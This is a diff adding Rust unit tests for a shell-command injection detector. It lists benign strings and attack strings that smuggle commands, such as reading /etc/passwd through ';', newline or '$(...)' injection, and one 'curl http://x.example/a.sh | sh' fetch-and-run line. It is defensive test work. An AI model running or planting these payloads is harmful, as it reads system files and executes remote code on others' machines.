@@ -428,3 +428,47 @@ fn a_segment_is_read_without_the_suffix_of_a_page() {
         assert!(confidence(Detector::Shell, honest.as_bytes(), Context::of(Place::Path)) < 80, "{honest}");
     }
 }
+
+#[test]
+fn comment_as_the_program_of_a_shell_runs_nothing() {
+    let value = Context::of(Place::Value);
+    for honest in [
+        "/bin/sh -c #(nop) ADD file:lab.conf in /etc/lab/ ",
+        "/bin/sh -c #(nop)  CMD [\"nginx\" \"-g\" \"daemon off;\"]",
+    ] {
+        assert!(confidence(Detector::Shell, honest.as_bytes(), value) < 40, "{honest}");
+    }
+    for attack in [
+        "/bin/sh -c #(nop)\ncat /etc/passwd",
+        "/bin/sh -c #(nop);cat /etc/passwd",
+        "/bin/sh -c a#(nop)",
+        "/bin/sh -c '#(nop)'\nid",
+        "/bin/sh -c id #(nop)",
+    ] {
+        assert!(confidence(Detector::Shell, attack.as_bytes(), value) >= 80, "{attack}");
+    }
+}
+
+#[test]
+fn commands_marked_as_code_in_a_line_of_words_are_doubtful() {
+    let value = Context::of(Place::Value);
+    for honest in [
+        "The wifi script from IT: `ipconfig /release && ipconfig /renew`, then it works again",
+        "Ran `cd /opt/his && tar xzf /tmp/a.tgz` on the kiosk, works now",
+        "重启用 `cd /opt/his && cp -r a /tmp/cache` 就好",
+    ] {
+        let sure = confidence(Detector::Shell, honest.as_bytes(), value);
+        assert!((1..80).contains(&sure), "{honest}: {sure}");
+    }
+    for attack in [
+        "a `cat /etc/passwd && cp a /tmp/x` b",
+        "from IT, good`cat /etc/passwd && cp a /tmp/x`morning to you",
+        "from IT `;cat /etc/passwd && cp a /tmp/x`",
+        "from IT `wifi` for you; cat /etc/passwd && cp a /tmp/x #`a`",
+        "from IT for you `curl http://x.example/a.sh | sh`",
+        "from IT for you `id && $(cat /etc/passwd)`",
+    ] {
+        let sure = confidence(Detector::Shell, attack.as_bytes(), value);
+        assert!(sure >= 80, "{attack}: {sure}");
+    }
+}
